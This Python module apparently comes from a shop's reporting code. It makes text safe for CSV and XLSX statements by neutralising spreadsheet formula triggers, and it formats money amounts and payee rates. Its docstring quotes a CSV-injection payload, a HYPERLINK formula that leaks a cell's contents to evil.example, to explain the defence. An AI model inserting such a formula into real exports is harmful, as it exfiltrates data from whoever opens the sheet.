"""What goes into a cell of a statement: text that no spreadsheet runs as a formula, amounts and rates.

Text a designer or curator typed (a product name, a display name, a SKU) reaches finance's spreadsheets. A
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel and
LibreOffice (OWASP "CSV injection": ``=HYPERLINK("http://evil.example/?"&A1,"x")`` leaks the sheet when
clicked). CSV cells of text get a leading apostrophe (OWASP's rule, which spreadsheet programs show as
text); XLSX writes every text as a string cell, which is never evaluated.
"""

from __future__ import annotations

import functools
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from fractions import Fraction

from shop.core.money import MINOR_UNITS, round_half_up_to

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
NEUTRALISER = "'"


def text_safe(value: str | None) -> str:
    """``value`` as CSV text that no spreadsheet program evaluates (an apostrophe before a trigger)."""
    if not value:
        return ""
    return NEUTRALISER + value if value.startswith(FORMULA_TRIGGERS) else value


def minor_text(minor: int, currency: str) -> str:
    """An amount in minor units as plain decimal text with the currency's decimals: ``-1234`` → ``-12.34``."""
    places = MINOR_UNITS[currency]
    if not places:
        return str(minor)
    sign, minor = ("-", -minor) if minor < 0 else ("", minor)
    whole, part = divmod(minor, 10**places)
    return f"{sign}{whole}.{part:0{places}d}"


def minor_text_for(currency: str) -> Callable[[int], str]:
    """``minor_text`` for one currency, as a function with the places fixed (a statement has one currency
    and formats two amounts a line: a million-line CSV calls it two million times)."""
    places = MINOR_UNITS[currency]
    if places != 2:
        return functools.partial(minor_text, currency=currency)

    def fen(minor: int) -> str:
        if minor < 0:
            whole, part = divmod(-minor, 100)
            return f"-{whole}.{part:02d}"
        whole, part = divmod(minor, 100)
        return f"{whole}.{part:02d}"

    return fen


class SafeTexts(dict):
    """``text_safe`` with memory: the texts that repeat on every line (products, relics, SKUs) are checked
    once. ``safe[value]`` gives the neutralised text."""

    def __missing__(self, value: str | None) -> str:
        safe = self[value] = text_safe(value)
        return safe


_QUOTED = ('"', ",", "\r", "\n")


def csv_field(text: str) -> str:
    """``text`` as one CSV field, quoted exactly as ``csv.writer`` quotes (QUOTE_MINIMAL, excel dialect)."""
    if any(char in text for char in _QUOTED):
        return '"' + text.replace('"', '""') + '"'
    return text


class CsvFields(dict):
    """Text made safe (``text_safe``) and quoted (``csv_field``), remembered for texts that repeat on many
    lines (products, relics, SKUs); ``one`` for texts that do not (order numbers)."""

    def __missing__(self, value: str | None) -> str:
        field = self[value] = csv_field(text_safe(value))
        return field

    @staticmethod
    def one(value: str | None) -> str:
        if not value:
            return ""
        if value.startswith(FORMULA_TRIGGERS) or any(char in value for char in _QUOTED):
            return csv_field(text_safe(value))
        return value


class MinorTexts(dict):
    """``minor_text`` of one currency, remembered: a statement's amounts repeat (a few prices, a few rates).
    Forgets everything past ``limit`` distinct amounts, so memory stays flat however varied they are."""

    def __init__(self, currency: str, *, limit: int = 100_000) -> None:
        super().__init__()
        self._format = minor_text_for(currency)
        self._limit = limit

    def __missing__(self, minor: int) -> str:
        if len(self) >= self._limit:
            self.clear()
        text = self[minor] = self._format(minor)
        return text


def minor_number(minor: int, currency: str) -> float:
    """An amount for an XLSX number cell (spreadsheets hold doubles). ``minor / 10**places`` is the double
    nearest the exact decimal (Python divides integers with one correct rounding), so 12.34 stays 12.34."""
    return minor / 10 ** MINOR_UNITS[currency]


def minor_decimal(minor: int, currency: str) -> Decimal:
    return Decimal(minor).scaleb(-MINOR_UNITS[currency])


@dataclass(frozen=True, slots=True)
class Rate:
    """A payee's exact share of a line's net sales (a weight such as ``17/250``), ready for each document:
    ``percent_text`` with four decimals as documents show it (``6.8000%``; spreadsheet programs read that
    CSV text as the number 0.068) and ``number`` for an XLSX cell with a percentage format."""

    exact: Fraction
    percent_text: str
    number: float


@functools.lru_cache(maxsize=4096)
def rate_of(weight: str | None) -> Rate | None:
    """The rate stored as ``"num/den"`` text in an entry's weights; None when the payee has none. A statement
    has a handful of distinct weights, so each is parsed once."""
    if not weight:
        return None
    value = Fraction(weight)
    if not value:
        return None
    return Rate(
        exact=value,
        percent_text=f"{round_half_up_to(value * 100, places=4)}%",
        number=value.numerator / value.denominator,
    )
